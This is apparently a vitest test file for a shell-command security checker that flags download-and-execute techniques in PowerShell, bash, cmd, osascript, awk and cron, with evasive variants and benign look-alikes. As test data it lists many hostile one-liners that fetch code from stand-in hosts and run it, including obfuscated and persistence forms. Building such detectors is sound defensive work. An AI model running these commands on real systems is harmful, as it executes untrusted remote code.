/**
 * Download + execute techniques beyond the forms written plainly: a program whose name is only known
 * at run time (`& $x (irm …)`, `curl … | $SHELL`), inline interpreter code of any language that fetches
 * and evaluates, downloads and runs split across a nested command line (`cmd /c curl … && a.bat`), and
 * programs run from a downloaded archive once unpacked. Each technique has evasive variants and benign
 * look-alikes that must stay allowed.
 */
import { describe, expect, it } from 'vitest';
import type { Shell } from '../types';
import { evaluateLine as evaluate } from './family-test-support';

function ruleIds(text: string, shell: Shell, history: string[] = []): string[] {
  return evaluate(text, shell, history).reasons.map((r) => r.ruleId);
}

function blocksAs(text: string, shell: Shell, ruleId: string): void {
  const r = evaluate(text, shell);
  expect(r.decision).toBe('block');
  expect(r.reasons.map((x) => x.ruleId)).toContain(ruleId);
  for (const reason of r.reasons) for (const s of reason.spans) expect(s.end).toBeLessThanOrEqual(text.length);
}

function notDownloadExecute(text: string, shell: Shell): void {
  expect(evaluate(text, shell).reasons.map((r) => r.code)).not.toContain('download_execute');
}

describe('PowerShell: a download handed to a command whose name is computed at run time', () => {
  it.each([
    '& $x (irm http://x.example/a)',
    '& (gv 1).value (irm http://x.example/a)',
    "& (Get-Variable x).Value (New-Object Net.WebClient).DownloadString('http://x.example/a')",
    '. $f (iwr http://x.example/a).Content',
    // Evasive variants: the alias set in the same line, the code as -Command, through a variable, a parenthesised target.
    "SEt-iTem vaRiable:1 'iex';& (gv 1).value (irm http://x.example/a)",
    '& $x -Command (irm http://x.example/a)',
    '$s = irm http://x.example/a; & $x $s',
    '. ($h) (iwr -UseBasicParsing http://x.example/a).Content',
    '&$env:RUNNER (irm http://x.example/a)',
  ])('blocks %s', (text) => blocksAs(text, 'powershell', 'dl.computed-invocation'));

  it.each(['irm http://x.example/a | & $x', '(New-Object Net.WebClient).DownloadString("http://x.example/a") | . $f'])(
    'blocks a download piped into a computed command: %s',
    (text) => blocksAs(text, 'powershell', 'dl.pipe-to-computed'),
  );

  it.each([
    '& $exe --version',
    '& $msbuild /t:Build',
    '& $python -m pip install requests',
    // The program name is a constant; only its directory is computed.
    '& "$env:ProgramFiles\\Git\\bin\\git.exe" log -1',
    // The download is the value of a named parameter, not code.
    '& $tool --token (irm https://api.example.net/token)',
    '$r = irm https://api.example.net/items; & $formatter -InputObject $r',
  ])('allows %s', (text) => notDownloadExecute(text, 'powershell'));
});

describe('POSIX and cmd: a download piped into a command whose name is not a constant', () => {
  it.each<[string, Shell]>([
    ['wget -qO- http://x.example/s | "$sh"', 'bash'],
    ['curl -s http://x.example/s | ${RUN}', 'zsh'],
    ['curl -s http://x.example/s | `echo $X`', 'sh'],
    ['curl -s http://x.example/s | %RUNNER%', 'cmd'],
  ])('blocks %s', (text, shell) => blocksAs(text, shell, 'dl.pipe-to-computed'));

  it.each<[string, Shell]>([
    // A default value, or a locator that names the program: judged as that program.
    ['curl -s http://x.example/s | ${X:-bash}', 'bash'],
    ['curl -s http://x.example/s | $(which bash)', 'bash'],
    ['curl -s http://x.example/s | `command -v sh`', 'bash'],
    // $SHELL, $BASH and $0 name a shell whatever they are set to.
    ['curl -fsSL http://x.example/s | $SHELL', 'bash'],
    ['curl -s http://x.example/s | sudo $SHELL -s -- --yes', 'bash'],
    ['curl -s http://x.example/s | "$BASH"', 'bash'],
    // A computed launcher in front of a named shell.
    ['curl -fsSL http://x.example/s | $SUDO bash', 'bash'],
    ['curl -fsSL http://x.example/s | $SUDO -E bash', 'bash'],
  ])('blocks %s as a pipe into a shell', (text, shell) => blocksAs(text, shell, 'dl.pipe-to-interpreter'));

  it('blocks a download given as -c code to the shell $SHELL names', () => {
    blocksAs('$SHELL -c "$(curl -fsSL http://x.example/s)"', 'bash', 'dl.exec-argument');
  });

  it('blocks decoded text piped into a computed shell', () => {
    const r = evaluate('echo Y3VybCBodHRwOi8veC5leGFtcGxlL3MgfCBzaA== | base64 -d | $SHELL', 'bash');
    expect(r.decision).toBe('block');
    expect(r.reasons.map((x) => x.ruleId)).toContain('enc.decode-pipe-exec');
  });

  it.each<[string, Shell]>([
    ['curl -s https://x.example.net/data.json | jq .', 'bash'],
    // $PAGER and $EDITOR name the user's viewer; an assignment in the text or the session would be resolved.
    ['curl -s https://x.example.net/README.md | $PAGER', 'bash'],
    ['curl -s https://x.example.net/README.md | ${PAGER}', 'zsh'],
    // Not invoked the way a shell reading its script from stdin is.
    ['curl -s https://x.example.net/data.json | $JQ .', 'bash'],
    ['curl -s https://x.example.net/data.json | $(which jq) .', 'bash'],
    ['$SHELL -c "echo hi"', 'bash'],
    ['curl -fsSL https://x.example.net/key.asc | $SUDO tee /etc/apt/keyrings/x.asc', 'bash'],
    ['curl -s https://x.example.net/data.json | $SUDO python3 -m json.tool', 'bash'],
    ['curl -s https://x.example.net/a.txt | %VIEWER% /c:1', 'cmd'],
  ])('allows %s', notDownloadExecute);

  it('follows an assignment to a viewer variable: PAGER=sh is a shell', () => {
    expect(ruleIds('PAGER=sh; curl -s http://x.example/s | $PAGER', 'bash')).toContain('dl.pipe-to-interpreter');
    expect(ruleIds('curl -s http://x.example/s | $PAGER', 'bash', ['export PAGER=bash'])).toContain('dl.pipe-to-interpreter');
  });
});

describe('inline interpreter code that fetches and evaluates', () => {
  it.each<[string, Shell]>([
    [`node -e "require('https').get('https://x.example/n',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})"`, 'bash'],
    [`node -e "fetch('https://x.example/a').then(r=>r.text()).then(eval)"`, 'bash'],
    [`deno eval "const r = await fetch('https://x.example/a'); eval(await r.text())"`, 'bash'],
    [`node -e "fetch('https://x.example/a').then(r=>r.text()).then(t=>new Function(t)())"`, 'bash'],
    [`node -e "require('child_process').execSync(require('https').get('https://x.example/a'))"`, 'bash'],
    // Evasive variants: --eval=, node: module names, a dynamic import of a URL, a here-document.
    [`node --eval="require('node:https').get(process.argv[1], r => r.pipe(require('child_process').spawn('sh').stdin))"`, 'bash'],
    [`node -e "import('https://x.example/m.mjs')"`, 'bash'],
    ['node <<EOF\nfetch("https://x.example/a").then((r) => r.text()).then(eval)\nEOF', 'bash'],
    [`bun -e "eval(await (await fetch('https://x.example/a')).text())"`, 'bash'],
    // The other languages through the same table.
    [`perl -MLWP::Simple -e 'eval get "http://x.example/a"'`, 'bash'],
    [`ruby -ropen-uri -e 'eval URI.open("http://x.example/a").read'`, 'bash'],
    [`python3.12 -c 'import urllib.request as u;exec(u.urlopen("http://x.example/a").read())'`, 'bash'],
    ['python3 - <<EOF\nimport urllib.request\nexec(urllib.request.urlopen("http://x.example/a").read())\nEOF', 'bash'],
    [`php -r "include('http://x.example/a.php');"`, 'bash'],
    [`php -r '$u="http://x.example/a"; eval(file_get_contents($u));'`, 'bash'],
    [`lua -e 'local h=require("socket.http"); loadstring(h.request("http://x.example/a"))()'`, 'bash'],
    // C# compiled into the session by Add-Type, from a here-string variable or given inline.
    [
      '$code = @"\nusing System.Net; using System.Diagnostics;\npublic class U { public static void Run() {\n  new WebClient().DownloadFile("https://x.example/s.exe", @"C:\\Users\\Public\\s.exe");\n  Process.Start(@"C:\\Users\\Public\\s.exe"); } }\n"@\nAdd-Type -TypeDefinition $code\n[U]::Run()',
      'powershell',
    ],
    [
      'Add-Type @\'\npublic class L { public static void Go() { var b = new System.Net.WebClient().DownloadData("https://x.example/a.dll"); System.Reflection.Assembly.Load(b).EntryPoint.Invoke(null, null); } }\n\'@',
      'powershell',
    ],
  ])('blocks %s', (text, shell) => blocksAs(text, shell, 'dl.interpreter-inline'));

  it.each<[string, Shell]>([
    [
      'Add-Type -AssemblyName System.Net.Http\nAdd-Type @"\npublic class P { public static string Get() { return new System.Net.WebClient().DownloadString("https://api.example/v"); } }\n"@',
      'powershell',
    ],
    [
      "Add-Type -TypeDefinition 'public class Shell { public static void Open(string p) { System.Diagnostics.Process.Start(p); } }'",
      'powershell',
    ],
  ])('allows Add-Type source that does not both download and run: %s', (text, shell) => notDownloadExecute(text, shell));

  it('blocks deno run of a URL', () => {
    blocksAs('deno run -A https://x.example/a.ts', 'bash', 'dl.script-url');
  });

  it.each([
    'node -e "console.log(process.version)"',
    'node -e "fetch(\'https://api.example.net/x\').then(r => r.json()).then(j => console.log(`${j.version}`))"',
    `node -p "require('https').globalAgent.maxSockets"`,
    'node -e "const re = /x/; fetch(process.argv[1]).then(r => r.text()).then(t => console.log(re.exec(t)))"',
    'deno eval "console.log(Deno.version)"',
    'deno run --allow-net main.ts https://x.example.net',
    `python3 -c 'import requests; print(requests.get("https://api.example.net").json())'`,
    `python3 -c 'import re, requests; print(re.compile("x").findall(requests.get("https://api.example.net").text))'`,
    `php -r 'echo file_get_contents("config.ini");'`,
    `ruby -e 'puts File.read("Gemfile")'`,
  ])('allows %s', (text) => notDownloadExecute(text, 'bash'));
});

describe('a download and its execution in different layers of one text', () => {
  it.each<[string, Shell]>([
    ['cmd /c curl -s http://x.example/a.bat -o a.bat && a.bat', 'cmd'],
    ['cmd /c "curl -s http://x.example/a.bat -o %TEMP%\\a.bat & %TEMP%\\a.bat"', 'cmd'],
    ['cmd /c certutil -urlcache -split -f http://x.example/u.exe u.exe && u.exe', 'cmd'],
    ['powershell -c "iwr http://x.example/a.exe -OutFile a.exe"; .\\a.exe', 'powershell'],
    ['bash -c "curl -so /tmp/x http://x.example/x" && chmod +x /tmp/x && /tmp/x', 'bash'],
  ])('blocks %s', (text, shell) => blocksAs(text, shell, 'dl.file-then-run'));

  it.each<[string, Shell]>([
    ['cmd /c curl -o report.csv https://x.example.net/r.csv', 'cmd'],
    ['cmd /c curl -o report.csv https://x.example.net/r.csv && type report.csv', 'cmd'],
    // A run before the download is not the download being run.
    ['a.bat & cmd /c curl -s https://x.example.net/a.bat -o a.bat', 'cmd'],
  ])('allows %s', notDownloadExecute);
});

describe('a program run from a downloaded archive', () => {
  it.each<[string, Shell]>([
    ['iwr http://x.example/x.zip -o x.zip; Expand-Archive x.zip .; .\\x\\run.exe', 'powershell'],
    [
      'Invoke-WebRequest https://x.example/t.zip -OutFile $env:TEMP\\t.zip; Expand-Archive -Path $env:TEMP\\t.zip -DestinationPath $env:TEMP\\t; Start-Process $env:TEMP\\t\\tool.exe',
      'powershell',
    ],
    [
      "(New-Object Net.WebClient).DownloadFile('http://x.example/a.zip', 'C:\\Users\\Public\\a.zip'); [IO.Compression.ZipFile]::ExtractToDirectory('C:\\Users\\Public\\a.zip', 'C:\\Users\\Public\\a'); & C:\\Users\\Public\\a\\a.exe",
      'powershell',
    ],
    ['curl -o a.zip http://x.example/a.zip && tar -xf a.zip && a\\run.exe', 'cmd'],
    ['curl -LO https://x.example/t.tar.gz && tar -xzf t.tar.gz -C /opt && /opt/t/bin/t', 'bash'],
    ['curl -sL https://x.example/t.tgz | tar xz && ./t/run', 'bash'],
    ['wget https://x.example/t.zip && unzip t.zip -d /tmp/t && bash /tmp/t/install.sh', 'bash'],
    ['curl -o a.7z https://x.example/a.7z && 7z x a.7z -o/tmp/q && /tmp/q/a', 'bash'],
    ['wget https://x.example/s.tar.gz; tar xf s.tar.gz; cd s; ./configure', 'bash'],
    // A script given to an interpreter by its bare name is a file of the working directory.
    ['wget http://x.example/csf.tgz; tar -xzf csf.tgz; cd csf; sh install.sh', 'bash'],
    ['wget -q https://x.example/p.tgz\ntar -xzf p.tgz && cd p\nsudo bash install.sh', 'bash'],
    // Unpacked into the working directory named as "$PWD" or (Get-Location), with the archive's path in curly quotes.
    [
      '$Path = “C:\\dwn\\agent.zip"\n(New-Object System.Net.WebClient).DownloadFile($URL, $Path)\nmkdir agent; Set-Location agent\n[System.IO.Compression.ZipFile]::ExtractToDirectory($Path, "$PWD")\n.\\config.cmd --unattended',
      'powershell',
    ],
    ['iwr http://x.example/x.zip -OutFile x.zip; Expand-Archive x.zip -DestinationPath (Get-Location).Path; .\\run.exe', 'powershell'],
  ])('blocks %s', (text, shell) => blocksAs(text, shell, 'dl.archive-then-run'));

  it('follows a decompressed single file like any downloaded file', () => {
    blocksAs('curl -o x.gz http://x.example/x.gz && gunzip x.gz && chmod +x x && ./x', 'bash', 'dl.file-then-run');
  });

  it('follows an archive downloaded in an earlier line', () => {
    expect(ruleIds('tar -xzf t.tgz -C /opt && /opt/t/run', 'bash', ['curl -o t.tgz https://x.example/t.tgz'])).toContain(
      'dl.archive-then-run',
    );
  });

  it.each<[string, Shell]>([
    ['curl -o C:\\t\\a.zip https://x.example.net/a.zip && tar -xf C:\\t\\a.zip', 'cmd'],
    ['curl -sL https://x.example.net/a.tgz | tar xz', 'bash'],
    ['iwr https://x.example.net/x.zip -o x.zip; Expand-Archive x.zip .; Get-Content .\\x\\README.txt', 'powershell'],
    ['curl -LO https://x.example.net/t.tar.gz && tar -xzf t.tar.gz && cat t/README', 'bash'],
    // Not downloaded here.
    ['tar -xzf t.tar.gz && ./t/run', 'bash'],
    ['Expand-Archive x.zip .; .\\x\\run.exe', 'powershell'],
    // Unpacked elsewhere, or the working directory left.
    ['iwr https://x.example.net/x.zip -o x.zip; Expand-Archive x.zip C:\\x; & C:\\tools\\run.exe', 'powershell'],
    ['curl -sL https://x.example.net/t.tgz | tar xz -C /opt; cd /tmp; ./run', 'bash'],
    ['curl -LO https://x.example.net/t.tar.gz && unzip -l t.zip && ./t/run', 'bash'],
    ['wget https://x.example.net/p.tgz; tar xzf p.tgz; cd p-1.0; cat install.sh', 'bash'],
    ['wget https://x.example.net/p.tgz; tar xzf p.tgz; cd /etc; bash install.sh', 'bash'],
  ])('allows %s', notDownloadExecute);
});

describe('PowerShell: a downloaded file named in an expression is not run', () => {
  it.each([
    '$wc = New-Object Net.WebClient; $wc.DownloadFile("https://x.example/w.png", "$env:TEMP\\w.png"); [Win32.Wallpaper]::SetWallpaper("$env:TEMP\\w.png")',
    'iwr https://x.example/a.zip -OutFile $zip; $archive = [IO.Compression.ZipFile]::OpenRead($zip)',
    'iwr https://x.example/r.csv -OutFile C:\\Temp\\r.csv; $path = "C:\\Temp\\r.csv"; $path',
  ])('allows %s', (text) => notDownloadExecute(text, 'powershell'));

  it.each([
    'iwr https://x.example/a.exe -OutFile $env:TEMP\\a.exe; & "$env:TEMP\\a.exe"',
    'iwr https://x.example/a.ps1 -OutFile C:\\Temp\\a.ps1; . C:\\Temp\\a.ps1',
    'iwr https://x.example/a.exe -OutFile C:\\Temp\\a.exe; C:\\Temp\\a.exe /quiet',
  ])('still blocks %s (run by & or . or by its path)', (text) => blocksAs(text, 'powershell', 'dl.file-then-run'));
});

describe('PowerShell: a downloaded file read into code that is evaluated', () => {
  it.each([
    'iwr https://x.example/a.ps1 -OutFile a.ps1; iex (gc a.ps1 -Raw)',
    'iwr https://x.example/a.ps1 -OutFile a.ps1; Get-Content a.ps1 | Out-String | Invoke-Expression',
    "(New-Object Net.WebClient).DownloadFile('https://x.example/p','p.ps1'); IEX((-Join([IO.File]::ReadAllBytes('p.ps1')|%{[Char]$_})))",
    'Start-BitsTransfer https://x.example/a.txt C:\\Temp\\a.txt; [ScriptBlock]::Create([IO.File]::ReadAllText("C:\\Temp\\a.txt")).Invoke()',
    // … or loaded by a method call.
    'iwr https://x.example/a.xll -o "$env:tmp\\a.xll"; (New-Object -ComObject Excel.Application).RegisterXLL("$env:tmp\\a.xll")',
    'iwr https://x.example/a.dll -OutFile $env:TEMP\\a.dll; [Reflection.Assembly]::LoadFile("$env:TEMP\\a.dll")',
  ])('blocks %s', (text) => blocksAs(text, 'powershell', 'dl.file-then-run'));

  it.each([
    'iwr https://x.example/a.json -OutFile a.json; Get-Content a.json | ConvertFrom-Json',
    'iwr https://x.example/a.ps1 -OutFile a.ps1; Get-Content a.ps1 | Select-String Invoke-Expression',
    'iwr https://x.example/list.txt -OutFile l.txt; foreach ($h in [IO.File]::ReadAllLines("l.txt")) { Test-Connection $h -Count 1 }',
  ])('allows %s (read, not evaluated)', (text) => notDownloadExecute(text, 'powershell'));
});

describe('a downloaded package installed from its file (its maintainer scripts run as root)', () => {
  it.each([
    'wget -q https://x.example/agent_2.1_amd64.deb -O /tmp/a.deb && sudo dpkg -i /tmp/a.deb',
    'curl -LO https://x.example/pkg/tool-1.2.rpm && sudo rpm -Uvh tool-1.2.rpm',
    'wget https://x.example/a.deb && sudo apt install -y ./a.deb',
    'curl -o /tmp/t.rpm https://x.example/t.rpm; sudo yum localinstall -y /tmp/t.rpm',
  ])('blocks %s', (text) => blocksAs(text, 'bash', 'dl.file-then-run'));

  it.each([
    'sudo apt-get install -y nginx',
    'wget https://x.example/a.deb; dpkg -c a.deb',
    'wget https://x.example/a.rpm; rpm -qpl a.rpm',
    'wget https://x.example/a.deb; dpkg --info a.deb',
    'sudo dpkg -i /var/cache/apt/archives/nginx_1.24_amd64.deb',
  ])('allows %s', (text) => notDownloadExecute(text, 'bash'));
});

describe('osascript code that fetches and evaluates', () => {
  it.each([
    `osascript -l JavaScript -e 'eval(ObjC.unwrap($.NSString.alloc.initWithDataEncoding($.NSData.dataWithContentsOfURL($.NSURL.URLWithString("http://x.example/p.js")), $.NSUTF8StringEncoding)))'`,
    `osascript -e 'run script (do shell script "curl -s https://x.example/a.applescript")'`,
  ])('blocks %s', (text) => {
    expect(evaluate(text, 'zsh').decision).toBe('block');
  });

  it('allows JavaScript for Automation that fetches nothing', () => {
    notDownloadExecute(`osascript -l JavaScript -e 'Application("System Events").displayNotification("done")'`, 'zsh');
  });
});

describe('a download wrapped in a function defined in the same text', () => {
  it.each([
    ['fetch() { wget -qO- "$1"; }\nfetch https://x.example/setup.sh | sudo bash -s -- --role web', 'bash'],
    ['get_it () { curl -fsSL "$1"; }\nget_it https://x.example/i.sh | sh', 'sh'],
    [
      'function Get-Helper {\n    param($Name)\n    return (Invoke-RestMethod -Uri "https://x.example/$Name.ps1")\n}\n$code = Get-Helper -Name Fix\n& ([scriptblock]::Create($code))',
      'powershell',
    ],
    ['function Get-Payload {\n    Invoke-RestMethod -Uri https://x.example/p.ps1\n}\nGet-Payload | iex', 'powershell'],
  ] as const)('blocks %s', (text, shell) => {
    expect(evaluate(text, shell).decision).toBe('block');
  });

  it.each([
    ['fetch() { curl -fsSL "$1"; }\nfetch https://api.example.com/v1/status | jq .', 'bash'],
    [
      'function Get-Status {\n    Invoke-RestMethod -Uri https://api.example.com/status\n}\n$s = Get-Status\nWrite-Output $s.state',
      'powershell',
    ],
    ['log() { echo "$(date) $*" >> /var/log/job.log; }\nlog started | tee -a /tmp/x', 'bash'],
  ] as const)('allows %s', (text, shell) => notDownloadExecute(text, shell));
});

describe('PowerShell: an expression over downloaded content is downloaded content', () => {
  it.each([
    "$r=[Net.WebRequest]::Create('https://203.0.113.62/s.txt').GetResponse();$t=[IO.StreamReader]::new($r.GetResponseStream()).ReadToEnd();.([scriptblock]::Create($t))",
    '$r = iwr https://x.example/a -UseBasicParsing; $c = $r.Content.Trim(); iex $c',
  ])('blocks %s', (text) => expect(evaluate(text, 'powershell').decision).toBe('block'));

  it.each([
    '$r = iwr https://x.example/a -UseBasicParsing; $s = $r.StatusCode; Write-Output $s',
    '$r = irm https://api.example.com/v1/status; $ok = $r.healthy; if ($ok) { Write-Host up }',
  ])('allows %s', (text) => notDownloadExecute(text, 'powershell'));
});

describe('a script written from a here-document that downloads and runs code, then run', () => {
  it.each<[string, Shell]>([
    ['TMPD=$(mktemp -d)\ncat > "$TMPD/go.sh" <<\'EOF\'\ncurl -fsSL http://x.example/bootstrap | bash\nEOF\nbash "$TMPD/go.sh"', 'bash'],
    ['cat <<EOF > /tmp/x.sh\nwget -qO- http://x.example/a | sh\nEOF\nchmod +x /tmp/x.sh && /tmp/x.sh', 'bash'],
  ])('blocks %s', (text, shell) => blocksAs(text, shell, 'dl.script-then-run'));

  it.each<[string, Shell]>([
    // Written but only shown, or harmless and run.
    ["cat > /tmp/x.sh <<'EOF'\ncurl -fsSL http://x.example/a | bash\nEOF\ncat /tmp/x.sh", 'bash'],
    ["cat > /tmp/check.sh <<'EOF'\ndf -h /\nEOF\nbash /tmp/check.sh", 'bash'],
  ])('allows %s', (text, shell) => notDownloadExecute(text, shell));
});

describe('macOS: an app unpacked with ditto from a download and opened', () => {
  it('blocks curl, ditto -xk, open', () =>
    blocksAs(
      'curl -sLo /tmp/Tool.zip https://x.example/Tool.zip && ditto -xk /tmp/Tool.zip /Applications/ && open /Applications/Tool.app',
      'zsh',
      'dl.archive-then-run',
    ));
  it('blocks a downloaded disk image mounted with hdiutil and run from /Volumes', () =>
    blocksAs(
      'curl -sL https://x.example/app.dmg -o /tmp/a.dmg; hdiutil attach /tmp/a.dmg -nobrowse; /Volumes/App/App.app/Contents/MacOS/App &',
      'zsh',
      'dl.archive-then-run',
    ));
  it('allows a mounted image that was not downloaded, or one only listed', () => {
    notDownloadExecute('hdiutil attach ~/Downloads/Tool.dmg; /Volumes/Tool/Tool.app/Contents/MacOS/Tool --version', 'zsh');
    notDownloadExecute(
      'curl -sL https://x.example/app.dmg -o /tmp/a.dmg; hdiutil attach /tmp/a.dmg; ls /Volumes/App; hdiutil detach /Volumes/App',
      'zsh',
    );
  });
  it('allows the same for an archive that was not downloaded, and ditto copying', () => {
    notDownloadExecute('ditto -xk ~/Downloads/Tool.zip /Applications/ && open /Applications/Tool.app', 'zsh');
    notDownloadExecute('curl -sLo /tmp/a.zip https://x.example/a.zip && ditto /tmp/a.zip /Volumes/Backup/', 'zsh');
  });
});

describe('POSIX functions that download into, or run, the file they are given', () => {
  it.each<[string, Shell]>([
    [
      'fetch() { curl -fsSL "$1" -o "$2"; }\nrun() { chmod 755 "$1"; "$1" --daemon; }\nBIN=/usr/local/bin/helper\nfetch "http://x.example/neh" "$BIN"\nrun "$BIN"',
      'bash',
    ],
    [
      'dl() { wget -q -O "$2" "$1"; }\ngo() { nohup "$1" >/dev/null 2>&1 & }\ndl http://x.example/a /tmp/a\nchmod +x /tmp/a\ngo /tmp/a',
      'bash',
    ],
  ])('blocks %s', (text, shell) => blocksAs(text, shell, 'dl.file-then-run'));

  it.each<[string, Shell]>([
    ['fetch() { curl -fsSL "$1" -o "$2"; }\nfetch "http://x.example/data.csv" /tmp/data.csv\nwc -l /tmp/data.csv', 'bash'],
    ['run() { "$1" --version; }\nrun /usr/bin/python3', 'bash'],
    ['fetch() { curl -fsSL "$1" -o "$2"; }\nrun() { "$1"; }\nfetch http://x.example/a /tmp/a\nrun /tmp/other', 'bash'],
  ])('allows %s', (text, shell) => notDownloadExecute(text, shell));
});

describe('a file pulled from another machine over SSH and run', () => {
  it.each<[string, Shell]>([
    ['scp -q ops@198.51.100.9:/srv/a /tmp/a && chmod +x /tmp/a && /tmp/a', 'bash'],
    ['scp -P 2222 ops@h.example:/srv/tool.sh /tmp/ && bash /tmp/tool.sh', 'bash'],
    ['rsync -e "ssh -p 2222" h.example:/opt/agent ./agent && ./agent --daemon', 'bash'],
  ])('blocks %s', (text, shell) => blocksAs(text, shell, 'dl.file-then-run'));

  it.each<[string, Shell]>([
    ['scp adversary@adversary-host:/tmp/adversary-scp /tmp/victim-files/', 'bash'],
    ['scp ./build.sh web01:/tmp/ && ssh web01 bash /tmp/build.sh', 'bash'],
    ['scp.exe ops@h.example:/tmp/T1105.txt C:\\temp', 'powershell'],
    ['rsync -avz backup:/srv/ /srv/ && ls /srv', 'bash'],
  ])('allows %s', (text, shell) => notDownloadExecute(text, shell));
});

describe('the path a download printed, kept in a variable and run', () => {
  it.each<[string, Shell]>([
    [
      'stage_one() { curl -fsSL "$1" -o /tmp/.p; chmod +x /tmp/.p; echo /tmp/.p; }\nstage_two() { "$1" --daemon; }\nf=$(stage_one https://x.example/p)\nstage_two "$f"',
      'bash',
    ],
    ['dl() { curl -fsSL "$1" -o "$2"; echo "$2"; }\nf=$(dl https://x.example/p /tmp/.p)\nchmod +x "$f"; "$f"', 'bash'],
    ['f=$(wget -qO /tmp/p https://x.example/p && echo /tmp/p); sh "${f}"', 'sh'],
    [
      'function Get-Update { param($r) $f = Join-Path $env:TEMP "w.exe"; (New-Object Net.WebClient).DownloadFile($r, $f); return $f }\n$file = Get-Update "http://x.example/w.exe"\nStart-Process $file -WindowStyle Hidden',
      'powershell',
    ],
    [
      'function Save-It($u) { $p = "$env:TEMP\\s.ps1"; Invoke-WebRequest $u -OutFile $p; $p }\n$s = Save-It https://x.example/s.ps1\n& $s',
      'powershell',
    ],
  ])('blocks %s', (text, shell) => blocksAs(text, shell, 'dl.file-then-run'));

  it.each<[string, Shell]>([
    ['dl() { curl -fsSL "$1" -o "$2"; echo "$2"; }\nf=$(dl https://x.example/p /tmp/.p)\nls -la "$f"; sha256sum "$f"', 'bash'],
    ['f=$(mktemp)\ncurl -fsSL https://x.example/data.json -o "$f"\njq . "$f"', 'bash'],
    ['v=$(curl -fsSL https://x.example/version.txt)\necho "latest is $v"', 'bash'],
    [
      'function Get-Update { param($r) $f = Join-Path $env:TEMP "w.exe"; (New-Object Net.WebClient).DownloadFile($r, $f); return $f }\n$file = Get-Update "http://x.example/w.exe"\nGet-FileHash $file',
      'powershell',
    ],
  ])('allows %s', (text, shell) => notDownloadExecute(text, shell));
});

describe('POSIX functions that run what is piped into them', () => {
  it.each<[string, Shell]>([
    ['_d() { curl -fsSL --retry 3 "$@"; }\n_x() { ${SHELL:-/bin/sh}; }\n_d "https://x.example/collect.sh" | _x', 'bash'],
    ['runit() { bash -s; }\ncurl -s https://x.example/i.sh | runit', 'bash'],
  ])('blocks %s', (text, shell) => blocksAs(text, shell, 'dl.pipe-to-interpreter'));

  it.each<[string, Shell]>([
    ['show() { less; }\ncurl -s https://x.example/readme.txt | show', 'bash'],
    ['count() { wc -l; }\ncurl -s https://x.example/list.txt | count', 'bash'],
  ])('allows %s', (text, shell) => notDownloadExecute(text, shell));
});

describe('awk programs that fetch and run', () => {
  it.each<[string, Shell]>([
    ['awk "BEGIN{while((\\"curl -s http://x.example/c\\" | getline l)>0) system(l)}"', 'bash'],
    ['awk \'BEGIN { "curl -s http://x.example/c" | getline; print | "sh" }\'', 'bash'],
  ])('blocks %s', (text, shell) => blocksAs(text, shell, 'dl.interpreter-inline'));
  it.each<[string, Shell]>([
    ["awk -F: '{print $1}' /etc/passwd", 'bash'],
    ['awk \'BEGIN { while (("curl -s https://api.example/v" | getline l) > 0) print l }\'', 'bash'],
    ['awk \'{ system("gzip " $1) }\' files.txt', 'bash'],
  ])('allows %s', (text, shell) => notDownloadExecute(text, shell));
});

describe('interpreter code that saves a download to a file, then run', () => {
  it.each<[string, Shell]>([
    [
      'python3 -c "import urllib.request;urllib.request.urlretrieve(\\"http://198.51.100.8/x.py\\",\\"/tmp/x.py\\")"; python3 /tmp/x.py &',
      'bash',
    ],
    ['perl -MLWP::Simple -e \'getstore("http://x.example/a", "/tmp/a")\' && chmod +x /tmp/a && /tmp/a', 'bash'],
  ])('blocks %s', (text, shell) => blocksAs(text, shell, 'dl.file-then-run'));
  it('blocks the run in a later line of the session', () => {
    const first = 'python3 -c "import urllib.request;urllib.request.urlretrieve(\\"http://198.51.100.8/x.py\\",\\"/tmp/x.py\\")"';
    expect(ruleIds('python3 /tmp/x.py &', 'bash', [first])).toContain('dl.file-then-run');
  });
  it('allows a saved file that is only read', () =>
    notDownloadExecute(
      'python3 -c "import urllib.request;urllib.request.urlretrieve(\\"http://198.51.100.8/x.csv\\",\\"/tmp/x.csv\\")"; wc -l /tmp/x.csv',
      'bash',
    ));
});

describe('Windows Script Host scripts written with echo, then run', () => {
  it('blocks a .js whose Run downloads and runs a batch file', () =>
    blocksAs(
      'echo var s=new ActiveXObject("WScript.Shell");s.Run("cmd /c curl -s http://10.1.1.1/a.bat -o %TEMP%\\\\a.bat ^&^& %TEMP%\\\\a.bat",0); > %TEMP%\\j.js && wscript //B %TEMP%\\j.js',
      'cmd',
      'dl.script-then-run',
    ));
  it('blocks a .vbs that runs a file downloaded earlier in the session', () => {
    const history = [
      'curl.exe -s -o C:\\Users\\Public\\svc.exe http://203.0.113.60/svc.bin',
      'echo Set sh = CreateObject("WScript.Shell") > %TEMP%\\t.vbs',
      'echo sh.Run "C:\\Users\\Public\\svc.exe", 0 >> %TEMP%\\t.vbs',
    ];
    expect(ruleIds('cscript //nologo //B %TEMP%\\t.vbs', 'cmd', history)).toContain('dl.script-then-run');
  });
  it('allows a written .vbs that runs nothing downloaded', () => {
    const history = ['echo Set sh = CreateObject("WScript.Shell") > %TEMP%\\t.vbs', 'echo sh.Run "notepad.exe", 1 >> %TEMP%\\t.vbs'];
    expect(ruleIds('cscript //nologo %TEMP%\\t.vbs', 'cmd', history)).not.toContain('dl.script-then-run');
  });
});

describe('JavaScript for Automation: NSTask running a shell command line', () => {
  it('blocks NSTask given /bin/sh and ["-c", "curl … | sh"]', () =>
    blocksAs(
      `osascript -l JavaScript -e 'ObjC.import("Foundation"); $.NSTask.launchedTaskWithLaunchPathArguments("/bin/sh", ["-c","curl -s http://10.3.3.3/a|sh"])'`,
      'zsh',
      'dl.pipe-to-interpreter',
    ));
  it('does not call a listing through NSTask a download', () =>
    notDownloadExecute(
      `osascript -l JavaScript -e 'ObjC.import("Foundation"); $.NSTask.launchedTaskWithLaunchPathArguments("/bin/sh", ["-c","ls -la /tmp"])'`,
      'zsh',
    ));
});

describe('cron entries that download and run', () => {
  it.each<[string, Shell]>([
    ['(crontab -l; echo "*/5 * * * * curl -s http://203.0.113.8/m.sh | sh") | crontab -', 'bash'],
    ["echo '@reboot root curl -s http://x.example/a | bash' >> /etc/crontab", 'bash'],
  ])('blocks %s', (text, shell) => blocksAs(text, shell, 'dl.pipe-to-interpreter'));
  it.each<[string, Shell]>([
    ['(crontab -l; echo "0 3 * * * /usr/local/bin/backup.sh") | crontab -', 'bash'],
    ['(crontab -l; echo "0 * * * * curl -s https://status.example.com/ping") | crontab -', 'bash'],
